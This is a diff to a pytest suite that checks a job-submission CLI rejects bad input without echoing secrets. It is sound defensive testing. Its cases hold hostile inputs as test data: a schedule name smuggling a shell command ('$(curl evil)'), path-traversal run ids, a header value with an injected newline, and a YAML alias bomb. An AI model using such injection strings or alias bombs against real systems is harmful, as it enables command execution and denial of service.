@@ -49,6 +49,7 @@ class Case:
     expect: tuple[str, ...]  # substrings of the one error line
     files: dict[str, str] = field(default_factory=dict)  # project files (relative path → text)
     env: dict[str, str] = field(default_factory=dict)
+    absent: tuple[str, ...] = ()  # substrings that must appear nowhere in the output (a value, a secret)
 
 
 def job(text: str, *args: str, expect: tuple[str, ...], cmd: str = "render",
@@ -57,9 +58,15 @@ def job(text: str, *args: str, expect: tuple[str, ...], cmd: str = "render",
     return Case((cmd, "bad", *args), expect, {"jobs/bad.yaml": text, **(files or {})})
 
 
-def flags(*args: str, expect: tuple[str, ...], cmd: str = "render", env: dict[str, str] | None = None) -> Case:
+def flags(*args: str, expect: tuple[str, ...], cmd: str = "render", env: dict[str, str] | None = None,
+          absent: tuple[str, ...] = ()) -> Case:
     """A case on the project's valid job (hello) with bad flags."""
-    return Case((cmd, "hello", *args), expect, {}, env or {})
+    return Case((cmd, "hello", *args), expect, {}, env or {}, absent)
+
+
+SECRET = "tok-9f8e7d6c5b4a-secret"  # a value that must never be echoed by an error
+ALIAS_BOMB = "name: x\nentrypoint: y\nargs:\n  a: &a [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]\n" + "".join(
+    f"  {chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(8))
 
 
 CASES = [
@@ -164,6 +171,36 @@ CASES = [
                  id="pyproject-unknown-key"),
     pytest.param(Case(("render", "hello"), ("pyproject.toml", "cannot read [tool.rtjob]"),
                       {"pyproject.toml": "[tool.rtjob\n"}), id="pyproject-malformed"),
+    # -- values are never echoed; what reaches a URL, a path or a shell line is checked ----------------------
+    pytest.param(Case(("render", "bad"), ("jobs/bad.yaml:3", "nodes", "valid integer"),
+                      {"jobs/bad.yaml": f"name: x\nentrypoint: y\nnodes: {SECRET}\n"}, absent=(SECRET,)),
+                 id="schema-error-never-echoes-the-value"),
+    pytest.param(Case(("render", "bad"), ("jobs/bad.yaml:3", "requirements"),
+                      {"jobs/bad.yaml": f"name: x\nentrypoint: y\nrequirements: https://u:{SECRET}@pypi.example\n"},
+                      absent=(SECRET,)), id="requirement-url-with-token-not-echoed"),
+    pytest.param(flags("--set", f"nodes={SECRET}", expect=("--set nodes=...", "valid integer"), absent=(SECRET,)),
+                 id="set-value-not-echoed"),
+    pytest.param(flags("--set", f"args..x={SECRET}", expect=("empty segment",), absent=(SECRET,)),
+                 id="set-bad-key-value-not-echoed"),
+    pytest.param(flags("--env", f"API_TOKEN {SECRET}", expect=("--env 'API_TOKEN'", "NAME=VALUE"), absent=(SECRET,)),
+                 id="env-without-equals-not-echoed"),
+    pytest.param(Case(("render", "bad"), ("jobs/bad.yaml", "more than 100,000 values"), {"jobs/bad.yaml": ALIAS_BOMB}),
+                 id="yaml-alias-bomb"),
+    pytest.param(flags("--submission-id", "../../etc", expect=("--submission-id", "not a valid run id")),
+                 id="submission-id-path"),
+    pytest.param(flags("--submission-id", "a/b?c=d", cmd="submit", expect=("--submission-id", "not a valid run id")),
+                 id="submission-id-url"),
+    pytest.param(Case(("status", "x/../../y"), ("RUN_ID", "not a valid run id")), id="run-id-path"),
+    pytest.param(flags("--backend", "ray", "--address", "http://127.0.0.1:99999",
+                       expect=("127.0.0.1:99999", "1-65535")), id="address-port-out-of-range"),
+    pytest.param(flags("--backend", "ray", "--address", "http://[::1", expect=("not a valid URL",)),
+                 id="address-unclosed-ipv6"),
+    pytest.param(flags("--backend", "ray", "--address", "http://127.0.0.1:9", "--header", "X-Team: a\nInjected: b",
+                       expect=("--header 'X-Team'", "control character")), id="header-value-newline"),
+    pytest.param(flags("--backend", "ray", "--address", f"http://bob:pa/ss#{SECRET}@127.0.0.1:99999",
+                       expect=("1-65535",), absent=(SECRET, "pa/ss")), id="address-password-with-slash-not-echoed"),
+    pytest.param(Case(("schedule", "apply", "hello", "--cron", "0 3 * * *", "--name", 'x"; $(curl evil)'),
+                      ("--name", "not a valid run id")), id="schedule-name-shell"),
     # -- which job, which command ---------------------------------------------------------------------------
     pytest.param(Case(("render", "helo"), ("unknown job 'helo'", "did you mean 'hello'?")), id="unknown-job"),
     pytest.param(Case(("submit", "jobs/missing.yaml"), ("jobs/missing.yaml", "no such job file")),
@@ -232,9 +269,12 @@ def test_there_are_at_least_30_distinct_cases():
 @pytest.mark.parametrize("case", CASES)
 def test_bad_input_is_one_line_exit_2(case: Case, request: pytest.FixtureRequest, results) -> None:
     future, home = results.start(request.node.callspec.id)
-    line = _assert_one_error_line(future.result(), 2)
+    proc = future.result()
+    line = _assert_one_error_line(proc, 2)
     for part in case.expect:
         assert part in line, f"{part!r} not in {line!r}"
+    for part in case.absent:
+        assert part not in proc.stdout + proc.stderr, f"{part!r} was echoed: {line!r}"
     # Nothing half-written: no run folder, no cluster state, no token, no storage.
     written = sorted(str(p.relative_to(home)) for p in home.rglob("*")) if home.exists() else []
     assert written == [], f"bad input wrote under RTJOB_HOME: {written}"
